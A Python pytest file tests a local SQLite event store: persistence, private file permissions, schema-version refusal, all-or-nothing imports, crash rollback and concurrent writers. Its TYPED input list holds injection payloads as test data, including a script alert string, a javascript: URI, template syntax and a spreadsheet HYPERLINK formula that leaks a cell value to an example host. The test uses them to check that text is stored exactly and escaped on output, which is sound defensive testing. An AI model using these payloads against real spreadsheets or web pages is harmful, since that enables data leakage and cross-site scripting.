"""The user's event store: persistence, all-or-nothing imports, concurrent writers, crashes."""

import sqlite3
import subprocess
import sys
import threading
from datetime import UTC, datetime

import pytest

from geo.dates import parse_fuzzy
from geo.places.gazetteer import Place
from geo.store.my_events import DATABASE_NAME, SCHEMA_VERSION, MyEventStore, StoreError, new_event
from geo.store.my_events_files import my_events_csv
from tests.conftest import HOSTILE, ROOT

GYUMRI = Place("gn:616635", "Gyumri", "city", 40.79305, 43.84635, "ARM", "616635", 114667)
NOW = datetime(2024, 2, 23, 9, 30, tzinfo=UTC)


def event(title: str = "Russian base stays in Gyumri", start: str = "2024-02-22", **fields):
    place, countries = fields.pop("place", GYUMRI), fields.pop("countries", ["ARM", "RUS"])
    return new_event(title, parse_fuzzy(start), place, countries=countries, now=NOW, **fields)


@pytest.fixture
def store(tmp_path) -> MyEventStore:
    return MyEventStore.open(tmp_path)


def test_the_store_lives_in_the_home_folder_the_environment_names(monkeypatch, tmp_path):
    monkeypatch.setenv("ALLIANCE_ATLAS_HOME", str(tmp_path / "atlas"))
    assert MyEventStore.open().path == tmp_path / "atlas" / DATABASE_NAME


def test_a_new_event_carries_the_resolved_place_and_a_uuid():
    made = event(note="seen in <b>Azatutyun</b>", source="https://example.org/a")
    assert (made.place_name, made.lat, made.lon, made.place_kind, made.place_country) == (
        "Gyumri",
        40.79305,
        43.84635,
        "city",
        "ARM",
    )
    assert made.countries == ("ARM", "RUS") and made.note == "seen in <b>Azatutyun</b>" and made.created_at == NOW
    assert len(made.id) == 36 and made.id != event().id


def test_events_survive_a_restart_and_can_be_deleted(tmp_path):
    first, second = event(), event("Summit in Yerevan", "2023-10")
    store = MyEventStore.open(tmp_path)
    store.add(first)
    store.add(second)
    reopened = MyEventStore.open(tmp_path)  # a new process would do the same: nothing is cached in memory
    assert reopened.events() == [second, first]  # by start date
    assert reopened.get(first.id) == first
    assert reopened.delete([first.id, "not-there"]) == 1
    assert MyEventStore.open(tmp_path).events() == [second]


def test_the_file_has_a_version_table_and_runs_in_wal_mode(store):
    with sqlite3.connect(store.path) as connection:
        assert connection.execute("SELECT version FROM schema_version").fetchall() == [(SCHEMA_VERSION,)]
        assert connection.execute("PRAGMA journal_mode").fetchone() == ("wal",)


def test_the_store_is_private_to_the_user(tmp_path):
    store = MyEventStore.open(tmp_path / "home")
    with sqlite3.connect(store.path) as reader:  # a reader keeps the -wal and -shm files in place
        reader.execute("SELECT count(*) FROM events").fetchone()
        store.add(event())
        files = sorted(p.name for p in (tmp_path / "home").iterdir())
    assert files == [DATABASE_NAME, f"{DATABASE_NAME}-shm", f"{DATABASE_NAME}-wal"]
    assert (tmp_path / "home").stat().st_mode & 0o777 == 0o700
    assert {(tmp_path / "home" / name).stat().st_mode & 0o777 for name in files} == {0o600}


def test_a_store_written_by_a_newer_version_is_refused(store):
    with sqlite3.connect(store.path) as connection:
        connection.execute("UPDATE schema_version SET version = ?", (SCHEMA_VERSION + 1,))
    with pytest.raises(StoreError, match="newer Alliance Atlas"):
        MyEventStore(store.path)


TYPED = [
    "if a<b and c>d",
    "AT&T &amp; <b>bold</b>",
    "Talks <script>alert(1)</script>in <i>Kant</i>",
    '=HYPERLINK("https://example.org/?leak="&A1,"Gyumri")',
    "+7 dead",
    "-1 tank",
    "@SUM(A1)",
    "'=typed",
    "{{ 7*7 }} {% if 1 %}x{% endif %} {# #}",
    "line one\rline two\r\nthree\nfour",
    "tab\tinside",
    "javascript:alert(1)",
    "control \x01\x1f\x7f chars",
    "Şuşa — «Xankəndi» 中文 🙂",
    *HOSTILE,
]


@pytest.mark.parametrize("typed", TYPED)
def test_text_is_kept_exactly_as_typed(store, typed):
    """Every output escapes text, so nothing is stripped on the way in: `if a<b and c>d` used to become `if ad`."""
    made = event(typed, note=typed, source=typed, place_name=typed)
    store.add(made)
    assert (store.get(made.id).title, made.note, made.source, made.place_name) == (typed,) * 4


def test_importing_the_same_events_twice_adds_them_once(store):
    store.add(event())
    report = store.import_file("again.csv", store.export_csv().encode())
    assert (report.added, report.already_present) == (0, 1)
    assert len(store.events()) == 1


def test_a_failure_half_way_through_an_import_rolls_everything_back(store, monkeypatch):
    import geo.store.my_events as my_events

    store.add(event())
    data = my_events_csv([event(f"Event {n}") for n in range(10)]).encode()
    calls = []

    def failing_row(made):
        calls.append(made)
        if len(calls) == 5:
            raise OSError("disk full")
        return original(made)

    original = my_events.row_of
    monkeypatch.setattr(my_events, "row_of", failing_row)
    with pytest.raises(OSError):
        store.import_file("ten.csv", data)
    monkeypatch.undo()
    assert len(store.events()) == 1


CRASHING_IMPORT = """
import os, sys
from pathlib import Path
import geo.store.my_events as my_events
count = 0
original = my_events.row_of
def dying(event):
    global count
    count += 1
    if count == 25:
        os._exit(3)  # the process dies inside the transaction, as on a power cut or kill -9
    return original(event)
my_events.row_of = dying
store = my_events.MyEventStore(Path(sys.argv[1]))
store.import_file("fifty.csv", Path(sys.argv[2]).read_bytes())
"""


def test_a_crash_mid_import_leaves_the_store_unchanged(store, tmp_path):
    store.add(event())
    upload = tmp_path / "fifty.csv"
    upload.write_text(my_events_csv([event(f"Event {n}") for n in range(50)]))
    result = subprocess.run(
        [sys.executable, "-c", CRASHING_IMPORT, str(store.path), str(upload)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 3, result.stderr
    assert [e.title for e in MyEventStore(store.path).events()] == ["Russian base stays in Gyumri"]


def test_two_threads_with_their_own_connections_both_keep_their_events(tmp_path):
    MyEventStore.open(tmp_path)
    start = threading.Barrier(2)
    errors = []

    def writer(name: str) -> None:
        own = MyEventStore.open(tmp_path)
        start.wait()
        try:
            for n in range(40):
                own.add(event(f"{name} {n}"))
        except Exception as error:  # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=writer, args=(name,)) for name in ("left", "right")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    titles = [e.title for e in MyEventStore.open(tmp_path).events()]
    assert errors == []
    assert sorted(titles) == sorted([f"left {n}" for n in range(40)] + [f"right {n}" for n in range(40)])


CONCURRENT_WRITER = """
import sys
from datetime import UTC, datetime
from pathlib import Path
from geo.dates import parse_fuzzy
from geo.store.my_events import MyEventStore, new_event
store = MyEventStore(Path(sys.argv[1]))
print("ready", flush=True)
sys.stdin.readline()
for n in range(30):
    store.add(new_event(f"{sys.argv[2]} {n}", parse_fuzzy("2023")))
    store.import_file("batch.csv", ("title,start\\n" + f"{sys.argv[2]} batch {n},2022\\n").encode())
"""


def test_two_processes_writing_at_once_both_keep_their_events(store):
    writers = [
        subprocess.Popen(
            [sys.executable, "-c", CONCURRENT_WRITER, str(store.path), name],
            cwd=ROOT,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for name in ("first", "second")
    ]
    for writer in writers:
        assert writer.stdout.readline().strip() == "ready"
    for writer in writers:  # released together, so their transactions interleave
        writer.stdin.write("go\n")
        writer.stdin.flush()
    for writer in writers:
        assert writer.wait(timeout=60) == 0, writer.stderr.read()
    titles = {e.title for e in store.events()}
    assert len(titles) == 120
    assert {f"{name} {n}" for name in ("first", "second") for n in range(30)} <= titles
